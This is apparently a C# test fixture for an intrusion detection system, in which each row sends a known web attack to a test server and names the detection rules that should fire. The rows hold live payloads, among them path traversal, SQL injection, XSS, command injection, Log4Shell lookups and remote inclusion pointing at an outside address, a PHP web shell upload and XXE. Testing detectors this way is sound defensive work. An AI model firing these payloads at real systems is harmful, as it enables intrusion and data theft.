using System.Text;

namespace HyperSpector.Tests.Kit.Traffic.Exchanges;

/// <summary>Attacks on a web server: a row each. IPv4 and IPv6 take turns.</summary>
internal static class WebAttacks
{
    internal static IEnumerable<Exchange> All => Rows.Select((row, i) => row with { Name = $"{row.Name}, {(i % 2 == 0 ? "IPv4" : "IPv6")}" })
        .Select((row, i) => new Exchange(row.Name, Intent.Attack, target => Run(new Client(target, i % 2 == 1, benign: false), row))
        {
            Raises = row.Raises,
        });

    private static IReadOnlyList<Row> Rows =>
    [
        Get("path traversal", "/../../../etc/passwd", 8200000, 8200002),
        Get("encoded path traversal", "/static/%2e%2e/%2e%2e/boot.ini", 8200000, 8200001),
        Get("passwd by parameter", "/page?file=/etc/passwd", 8200002),
        Get("repository", "/.git/config", 8200003),
        Get("environment file", "/app/.env", 8200004),
        Get("database dump", "/backup/site.sql.gz", 8200005),
        Get("SQL union", "/item?id=1%20UNION%20ALL%20SELECT%20user,password%20FROM%20users", 8200006),
        Get("SQL tautology", "/item?id=1'%20or%20'1'='1", 8200007),
        Get("SQL delay", "/item?id=1;select%20pg_sleep(10)", 8200008),
        Get("script element", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 8200009),
        Get("event handler", "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", 8200010),
        Get("command injection", "/ping?host=127.0.0.1;cat%20/etc/hosts", 8200011),
        Get("command substitution", "/ping?host=$(whoami)", 8200012),
        Get("PHP wrapper", "/index.php?page=php://filter/convert.base64-encode/resource=index", 8200013),
        Get("remote inclusion", "/index.php?page=http://198.51.100.9/shell.txt", 8200014),
        Get("null byte", "/index.php?page=../secret%00.png", 8200015),
        Get("metadata address", "/fetch?url=http://169.254.169.254/latest/meta-data/", 8200016),
        Get("PHP unit test", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 8200017),
        Get("PHP CGI", "/cgi-bin/php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", 8200018),
        Get("long URI", "/" + new string('A', 5000), 8200019),
        Header("Shellshock", "Referer: () { :;}; /bin/bash -c 'id'", 8200100),
        Header("Log4Shell in a header", "X-Api-Version: ${jndi:ldap://198.51.100.9/a}", 8200101),
        Header("Log4Shell disguised", "X-Api-Version: ${${lower:j}ndi:${lower:l}dap://198.51.100.9/a}", 8200101),
        Get("Log4Shell in the URI", "/?x=$%7Bjndi:ldap://198.51.100.9/a%7D", 8200102),
        Post("Spring4Shell", "application/x-www-form-urlencoded", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", 8200103),
        Get("Spring4Shell in the URI", "/?class.module.classLoader.resources.context.parent=1", 8200104),
        Post("web shell upload", "multipart/form-data; boundary=xxx",
            "--xxx\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--xxx--\r\n",
            8200105, 8200106),
        Post("SQL union in a form", "application/x-www-form-urlencoded", "id=1 union select 1,2,3", 8200107),
        Post("external entity", "text/xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", 8200108),
        Post("serialized Java object", "application/octet-stream", "\u00ac\u00ed\0\u0005sr\0\u0011java.util.HashMap", 8200109),
        Header("Struts expression", "Content-Type: %{(#_='multipart/form-data').(#x=@java.lang.Runtime@getRuntime())}", 8200110),
        new("TRACE", [HttpText.Request("TRACE", "/")], 8200111),
        new("PUT", [HttpText.Request("PUT", "/x.txt", body: "x"u8.ToArray())], 8200112),
        new("Basic login, ten guesses", [.. Enumerable.Range(0, 10).Select(i => HttpText.Request(
            "GET", "/admin", [$"Authorization: Basic {Convert.ToBase64String(Encoding.ASCII.GetBytes($"bob:guess{i}"))}"], keep: i < 9))], 8200113),
        Header("Basic default password", "Authorization: Basic YWRtaW46YWRtaW4=", 8200114),
        new("request smuggling", [HttpText.Request("POST", "/form", ["Transfer-Encoding: chunked"], "0\r\n\r\n"u8.ToArray())], 8200115),
        Header("very many ranges", $"Range: bytes={string.Join(",", Enumerable.Range(0, 40).Select(i => $"{i}-"))}", 8200116),
        Agent("Nikto", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", 8200200),
        Agent("sqlmap", "sqlmap/1.7.2#stable (https://sqlmap.org)", 8200201),
        Agent("Nmap scripts", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", 8200202),
        Agent("masscan", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", 8200203),
        Agent("gobuster", "gobuster/3.6", 8200204),
        new("guessing pages", [.. Enumerable.Range(0, 25).Select(i => HttpText.Request("GET", $"/guess{i}", keep: i < 24))], 8200205),
        Get("passwd leaks", "/leak/passwd", 8200300),
        Get("output of id leaks", "/leak/id", 8200301),
        Get("private key leaks", "/leak/key", 8200302),
        Get("database error leaks", "/leak/sql", 8200303),
    ];

    private static void Run(Client client, Row row) => _ = client.Http(row.Requests);

    private static Row Get(string name, string path, params int[] raises) => new(name, [HttpText.Request("GET", path)], raises);

    private static Row Header(string name, string header, params int[] raises) => new(name, [HttpText.Request("GET", "/", [header])], raises);

    private static Row Agent(string name, string agent, params int[] raises) => new(name, [HttpText.Request("GET", "/", agent: agent)], raises);

    private static Row Post(string name, string type, string body, params int[] raises) =>
        new(name, [HttpText.Request("POST", "/form", [$"Content-Type: {type}"], Encoding.Latin1.GetBytes(body))], raises);

    private sealed record Row(string Name, byte[][] Requests, params int[] Raises);
}
